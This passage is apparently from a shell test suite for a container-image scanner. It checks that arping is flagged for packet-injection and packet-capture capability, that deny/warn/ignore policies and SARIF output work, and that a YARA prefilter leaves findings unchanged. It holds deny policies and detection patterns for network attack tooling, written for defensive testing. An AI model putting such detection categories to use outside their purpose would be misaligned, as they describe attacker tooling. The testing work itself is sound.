        jq_true "arping: capability_libnet (packet-injection, high)" '[.reports[0].findings[] | select(.path == "/usr/sbin/arping" and .rule == "capability_libnet") | .category == "packet-injection" and .severity == "high" and .signal == "capability"] | (length == 1 and all)'
        jq_true "arping: capability_libpcap too" '[.reports[0].findings[] | select(.path == "/usr/sbin/arping" and .rule == "capability_libpcap")] | length == 1'
        jq_true "arping with lying ident bytes: capability_libnet still" '[.reports[0].findings[] | select(.path == "/usr/sbin/arping-lying" and .rule == "capability_libnet")] | length == 1'
        # a program without an exec bit is not read as a program (no PT_INTERP read)
        jq_true "non-executable copy: no capability finding" '[.reports[0].findings[] | select(.path == "/app/probe" and .signal == "capability")] | length == 0'
        printf '{"name": "cats", "checks": {"suspicious-tool": {"action": "deny", "categories": {"packet-injection": "warn", "packet-capture": "ignore"}}, "root-user": {"action": "ignore"}, "entrypoint-unrunnable": {"action": "ignore"}, "unpinned-image": {"action": "ignore"}}}\n' >"$T/cats.json"
        run "categories lower packet-injection to warn" 0 "$PC" scan --policy "$T/cats.json" --format json "oci:$T/cap/oci:latest"
        jq_true "categories: libnet warns, libpcap ignored" '([.reports[0].findings[] | select(.rule == "capability_libnet") | .action] == ["warn", "warn"]) and ([.reports[0].findings[] | select(.rule == "capability_libpcap")] | length == 0)'
        run "categories in SARIF" 0 "$PC" scan --policy "$T/cats.json" --format sarif "oci:$T/cap/oci:latest"
        jq_true "SARIF result carries category, severity and signal" '[.runs[0].results[] | select(.properties.rule == "capability_libnet") | .properties | .category == "packet-injection" and .severity == "high" and .signal == "capability"] | (length == 2 and all)'
        printf '{"name": "badcat", "checks": {"suspicious-tool": {"categories": {"snifer": "ignore"}}}}\n' >"$T/badcat.json"
        run "unknown category refused" 2 "$PC" scan --policy "$T/badcat.json" "oci:$T/cap/oci:latest"
        grep_in "unknown category named" 'categories[.]snifer: unknown key' "$T/err"
    }
}

# ---- the prefilter (yara.prefilter, --no-prefilter): YARA is skipped on files
# no rule can match; the findings must be the same with and without it
run "rules check: prefilter status" 0 "$PC" rules check "$PC_ROOT/rules"
grep_in "shipped rules: the prefilter is on" '^prefilter: on: [0-9]+ rules, [0-9]+ patterns \(files [0-9]+; in blocks: ELF [0-9]+, other [0-9]+\)$' "$T/out"
content_hits() { jq -r '.reports[0].findings[] | select(.check == "suspicious-tool") | "\(.path) \(.rule)"' "$T/out" | sort; }
# same_findings NAME CODE SCAN-ARGS...: scan with and without the prefilter (no cache)
same_findings() {
    pf_name=$1 pf_code=$2
    shift 2
    run "$pf_name, prefilter on" "$pf_code" "$PC" scan --cache-dir "$(fresh_cache)" --format json "$@"
    content_hits >"$T/pf-on.txt"
    run "$pf_name, prefilter off" "$pf_code" "$PC" scan --cache-dir "$(fresh_cache)" --no-prefilter --format json "$@"
    content_hits >"$T/pf-off.txt"
    n=$(wc -l <"$T/pf-on.txt")
    if [ "$n" -gt 0 ] && cmp -s "$T/pf-on.txt" "$T/pf-off.txt"; then
        pass "$pf_name: the same $n findings with and without the prefilter"
    else
        fail "$pf_name: findings differ (or none)" "$(diff "$T/pf-on.txt" "$T/pf-off.txt" | head -10 | tr '\n' ';')"
    fi
}
same_findings "positive corpus, every file" 1 --policy "$T/all.json" "oci:$T/pos/oci:latest"
printf '{"name": "pf-off", "yara": {"prefilter": false, "scan_all_files": true}}\n' >"$T/pf-off.json"
run "yara.prefilter false in the policy" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/pf-off.json" --format json "oci:$T/pos/oci:latest"
content_hits >"$T/pf-pol.txt"
cmp -s "$T/pf-pol.txt" "$T/pf-off.txt" && pass "yara.prefilter false: the same findings" ||
    fail "yara.prefilter false: the same findings" "$(diff "$T/pf-pol.txt" "$T/pf-off.txt" | head -5 | tr '\n' ';')"
# rules that hit all over the negative corpus: text (nocase, wide), hex, regex
mkdir -p "$T/pfrules"
cat >"$T/pfrules/common.yar" <<'R'
rule pf_text { strings: $a = "GLIBC_2.3" $b = "usage:" nocase condition: any of them }
rule pf_wide { strings: $a = "Copyright" wide ascii fullword condition: #a > 1 }
rule pf_hex { strings: $a = { 7F 45 4C 46 02 01 01 ?? [8-12] 0? 00 } condition: $a at 0 }
rule pf_regex { strings: $a = /#!\/(usr\/)?bin\/(ba)?sh/ $b = /\bexec\s+[a-z]{2,}/i condition: any of them }
rule pf_rare { strings: $a = { 70 66 2d 72 61 72 65 [1-3] 21 } condition: $a }
R
# rules that need two strings or one kind of file (the prefilter looks for
# one of $a and $b, and in ELF files only for the rules about ELF files)
cat >"$T/pfrules/heads.yar" <<'R'
rule pf_elf_both { strings: $a = "GLIBC_2.3" $b = "usage:" nocase condition: uint32be(0) == 0x7f454c46 and $a and $b }
rule pf_not_elf_all { strings: $a = /#!\/(usr\/)?bin\/(ba)?sh/ $b = /\bexec\s+[a-z]{2,}/i condition: uint32be(0) != 0x7f454c46 and all of them }
rule pf_quorum { strings: $a = "GLIBC_2.3" $b = "Copyright" $c = "--help" condition: 2 of them }
R
same_findings "negative corpus, own rules" 1 --rules "$T/pfrules" --policy "$T/tools-only.json" "oci:$T/neg/oci:latest"
jq_true "own rules: every kind of string found" '([.reports[0].findings[] | .rule] | unique) as $r | (["pf_hex", "pf_regex", "pf_text", "pf_wide"] - $r) == []'
jq_true "own rules: rules needing two strings and a kind of file found" '([.reports[0].findings[] | .rule] | unique) as $r | (["pf_elf_both", "pf_not_elf_all", "pf_quorum"] - $r) == []'
# the same in blocks of 64 KiB (every ELF file here is block-scanned: the
# prefilter clears blocks, and whole files clear in every block)
jq '.name = "tools-blocks" | .yara.max_file_bytes = 65536' "$T/tools-only.json" >"$T/tools-blocks.json"
same_findings "negative corpus, own rules, 64 KiB blocks" 1 --rules "$T/pfrules" --policy "$T/tools-blocks.json" "oci:$T/neg/oci:latest"
printf '{"name": "all-blocks", "yara": {"scan_all_files": true, "max_file_bytes": 65536}}\n' >"$T/all-blocks.json"
same_findings "positive corpus, every file, 64 KiB blocks" 1 --policy "$T/all-blocks.json" "oci:$T/pos/oci:latest"
# a rule that needs no string: the prefilter stays off and every file reaches YARA
cp "$T/pfrules/common.yar" "$T/pfrules/every.yar"
printf 'rule pf_every_file { condition: filesize > 0 }\n' >>"$T/pfrules/every.yar"
rm "$T/pfrules/common.yar" "$T/pfrules/heads.yar"
run "rules check: a rule without strings" 0 "$PC" rules check "$T/pfrules"
grep_in "the prefilter is off, naming the rule" '^prefilter: off: .*every.yar:[0-9]+: rule pf_every_file: its condition can be true without any of its strings' "$T/out"
# (the prefilter is off here, so one scan: with it on or off it is the same scan)
run "a rule without strings" 1 "$PC" scan --cache-dir "$(fresh_cache)" --format json --rules "$T/pfrules" --policy "$T/all.json" "oci:$T/pos/oci:latest"
content_hits >"$T/pf-on.txt"
# files in which no string of any rule occurs still reached YARA: they match pf_every_file alone
alone=$(grep ' pf_' "$T/pf-on.txt" | awk '{n[$1]++; if ($2 == "pf_every_file") e[$1] = 1} END {for (p in e) if (n[p] == 1) c++; print c + 0}')
nevery=$(grep -c ' pf_every_file$' "$T/pf-on.txt")
npaths=$(grep ' pf_' "$T/pf-on.txt" | cut -d' ' -f1 | sort -u | wc -l)
[ "$alone" -gt 0 ] && [ "$nevery" -eq "$npaths" ] &&
    pass "every scanned file reached YARA ($nevery files, $alone of them matching no string)" ||
    fail "every scanned file reached YARA" "$nevery pf_every_file findings, $npaths paths, $alone without a string"
